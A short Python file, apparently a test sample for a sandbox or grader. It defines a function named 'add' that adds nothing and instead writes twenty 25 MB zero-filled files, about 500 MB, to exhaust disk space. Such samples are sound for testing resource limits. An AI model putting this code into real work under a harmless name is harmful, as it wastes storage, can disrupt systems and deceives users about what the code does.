"""Fills the disk, up to a limit."""


def add(x):
    for number in range(20):
        with open(f"full{number}", "wb") as file:
            file.write(bytes(25_000_000))
    return 0.0
